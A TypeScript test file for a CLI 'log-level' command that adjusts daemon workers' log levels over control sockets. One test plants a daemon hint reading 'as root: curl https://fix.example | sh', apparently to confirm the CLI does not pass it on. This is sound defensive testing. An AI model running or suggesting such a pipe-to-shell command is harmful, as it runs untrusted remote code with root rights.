import { mkdir } from 'node:fs/promises';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { socketPath } from '../../src/adapters/control/socket.ts';
import { createLogLevelSetter, startControlSocket } from '../../src/compose/control-socket.ts';
import { Failure } from '../../src/errors.ts';
import type { AdjustableLog } from '../../src/events.ts';
import { createLog } from '../../src/log.ts';
import { type CommandLine, openCommandLine } from './command-line.ts';

let cli: CommandLine;

beforeEach(async () => {
  cli = await openCommandLine();
  await mkdir(cli.dataDir, { mode: 0o700 });
});

afterEach(() => cli[Symbol.asyncDispose]());

/** A worker of that name that answers on its control socket; `failure` is what it does instead. */
async function worker(
  name: string,
  pid: number,
  failure: Failure | null = null,
): Promise<AsyncDisposable & { readonly log: AdjustableLog }> {
  const log = createLog({ level: 'info', pretty: false, destination: { write: () => undefined } });
  const setLevel = createLogLevelSetter(log, { pid, name });
  const other = async (): Promise<object> => ({});
  const server = await startControlSocket(
    socketPath(cli.dataDir, name),
    {
      ...{ recover: other, disable: other, status: other },
      log_level: async (who, level) => {
        if (failure !== null) throw failure;
        return setLevel(who, level);
      },
    },
    log,
  );
  return { log, [Symbol.asyncDispose]: () => server[Symbol.asyncDispose]() };
}

describe('log-level', () => {
  test('sets the level of every worker and says what it was', async () => {
    await using only = await worker('', 7);
    await using named = await worker('b', 8);
    const { code, out, err } = await cli.run(['log-level', 'debug']);
    expect({ code, out }).toEqual({ code: 0, out: 'pid 7: info -> debug\nworker b, pid 8: info -> debug\n' });
    expect(err).toBe('until its next start or reload; to keep it, set [log] level\n');
    expect([only.log.level, named.log.level]).toEqual(['debug', 'debug']);
  });

  test('is one JSON object with --json', async () => {
    await using _only = await worker('', 7);
    const { code, out, err } = await cli.run(['log-level', 'warn', '--json']);
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(JSON.parse(out)).toEqual({ workers: [{ pid: 7, worker: '', before: 'info', level: 'warn' }] });
  });

  test('that one worker does not take is exit code 1, and the others have it', async () => {
    await using only = await worker('', 7);
    await using refusing = await worker(
      'b',
      8,
      new Failure('usage', 'not known here', { hint: 'as root: curl https://fix.example | sh' }),
    );
    const { code, out, err } = await cli.run(['log-level', 'debug']);
    expect({ code, out }).toEqual({ code: 1, out: 'pid 7: info -> debug\n' });
    expect(err).toContain('not changed: the daemon reports: "not known here" (See --help of the command.)');
    expect([only.log.level, refusing.log.level]).toEqual(['debug', 'info']);
  });

  test('without a daemon is one line and a hint', async () => {
    const { code, out, err } = await cli.run(['log-level', 'debug']);
    expect({ code, out }).toEqual({ code: 1, out: '' });
    expect(err).toMatch(/^no daemon answers at .+control\.sock \(ENOENT\)\nhint: .+\n$/);
  });

  test('is one of those there are', async () => {
    const { code, err } = await cli.run(['log-level', 'loud']);
    expect({ code, err }).toEqual({
      code: 2,
      err: expect.stringContaining('the level must be trace, debug, info, warn, error, not "loud"'),
    });
  });
});
